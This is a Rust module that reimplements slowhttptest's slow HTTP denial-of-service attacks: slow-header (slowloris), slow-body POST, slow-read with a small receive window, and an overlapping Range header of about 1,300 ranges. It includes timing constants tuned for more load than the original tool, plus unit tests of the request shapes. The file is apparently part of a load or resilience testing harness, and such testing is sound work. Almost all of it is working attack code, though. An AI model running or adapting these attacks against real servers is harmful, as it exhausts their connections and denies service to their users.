//! The attacks of slowhttptest: a connection is held with as little as possible.

use std::io;
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;

use super::modes::Mode;

/// Between two drops on a connection. slowhttptest has ten seconds if nobody says otherwise, which would be less load.
pub(super) const EVERY: Duration = Duration::from_secs(2);
/// Before a connection that was ended is opened again; slowhttptest does not do that at all.
pub(super) const PAUSE: Duration = Duration::from_secs(1);
/// Of what a slow reader lets its system take for it; the system makes it as much as it must be.
pub(super) const WINDOW_BYTES: u32 = 1024;
/// What a slow reader takes at a time, as slowhttptest does with `-z 32`.
const SIP_BYTES: usize = 32;
/// More than all buffers on the way hold.
const ANSWER_BYTES: u32 = 64 << 20;
/// As many as fit a head of 16 KiB.
const RANGES: u32 = 1300;

/// Holds a connection until it is ended.
pub(super) async fn hold(mode: Mode, mut stream: TcpStream, host: &str) -> io::Result<()> {
    stream.write_all(opening(mode, host).as_bytes()).await?;
    match mode {
        Mode::SlowHead => drip(stream, b"X-a: b\r\n").await,
        Mode::SlowBody => drip(stream, b"a=b&").await,
        Mode::SlowRead => sip(stream).await,
        _ => repeat(stream, opening(mode, host).as_bytes()).await,
    }
}

fn opening(mode: Mode, host: &str) -> String {
    match mode {
        Mode::SlowBody => {
            format!("POST /checksum HTTP/1.1\r\nHost: {host}\r\nContent-Length: 1000000\r\n\r\na=b&")
        }
        Mode::SlowRead => format!("GET /bytes/{ANSWER_BYTES} HTTP/1.1\r\nHost: {host}\r\n\r\n"),
        Mode::RangeHeader => {
            let ranges: Vec<_> = (1..RANGES).map(|end| format!("5-{end}")).collect();
            format!("GET /healthz HTTP/1.1\r\nHost: {host}\r\nRange: bytes=0-,{}\r\n\r\n", ranges.join(","))
        }
        _ => format!("GET / HTTP/1.1\r\nHost: {host}\r\n"),
    }
}

/// A drop every now and then, and a look whether the other side has had enough.
async fn drip(mut stream: TcpStream, bytes: &[u8]) -> io::Result<()> {
    let mut answer = [0; 1024];
    loop {
        tokio::select! {
            () = tokio::time::sleep(EVERY) => stream.write_all(bytes).await?,
            read = stream.read(&mut answer) => if read? == 0 { return Ok(()) },
        }
    }
}

async fn sip(mut stream: TcpStream) -> io::Result<()> {
    let mut some = [0; SIP_BYTES];
    while stream.read(&mut some).await? > 0 {
        tokio::time::sleep(EVERY).await;
    }
    Ok(())
}

/// The same request again, with the answer before it taken.
async fn repeat(mut stream: TcpStream, request: &[u8]) -> io::Result<()> {
    let mut answer = vec![0; 16 * 1024];
    loop {
        tokio::select! {
            () = tokio::time::sleep(EVERY) => stream.write_all(request).await?,
            read = stream.read(&mut answer) => if read? == 0 { return Ok(()) },
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_slow_head_never_ends_and_the_others_do() {
        assert!(!opening(Mode::SlowHead, "a").ends_with("\r\n\r\n"));
        for mode in [Mode::SlowRead, Mode::RangeHeader] {
            assert!(opening(mode, "a").ends_with("\r\n\r\n"), "{mode:?}");
        }
    }

    #[test]
    fn the_ranges_fit_a_head_of_16_kib() {
        let length = opening(Mode::RangeHeader, "a.b.agents.localhost").len();
        assert!((7 * 1024..16 * 1024).contains(&length), "{length}");
    }
}
